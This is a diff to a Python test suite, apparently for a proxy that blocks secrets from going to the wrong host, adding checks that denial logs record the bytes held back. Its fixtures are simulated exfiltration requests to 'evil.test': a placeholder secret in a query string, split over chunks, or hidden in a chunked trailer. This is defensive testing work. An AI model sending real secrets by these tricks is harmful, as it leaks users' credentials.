@@ -114,6 +114,8 @@ for way, (head, body) in ways.items():
              (status, fields.get("matchlock-denied")))
     event = broker.event(kind="denial", host="evil.test")
     tap.ok("and the log has it", event and event["reason"] == "secret_wrong_host" and event["secrets"] == "API_KEY", event)
+    tap.ok("with the bytes that did not leave", event and event["sent"] + event["bytes"] == len(body) and
+           event["bytes"] >= min(len(body), len(placeholder)), event)
 stream = broker.tls("evil.test", elsewhere.port)
 stream.sendall(b"GET /?q=" + urllib.parse.quote(placeholder).encode() + b" HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" %
                elsewhere.port)
@@ -127,6 +129,8 @@ for at in range(0, len(placeholder), 5):
 stream.sendall(b"0\r\n\r\n")
 status, fields, text, rest = read_message(stream)
 tap.same("split over chunks", (403, "secret_wrong_host"), (status, fields.get("matchlock-denied")))
+event = broker.event(kind="denial", host="evil.test", method="POST")
+tap.ok("and most of it did not leave", event and event["sent"] + event["bytes"] == len(placeholder) and event["bytes"] > 13, event)
 stream = broker.tls("evil.test", elsewhere.port)
 stream.sendall(b"POST / HTTP/1.1\r\nHost: evil.test:%d\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\nX-Sum: " %
                elsewhere.port + placeholder + b"\r\n\r\n")
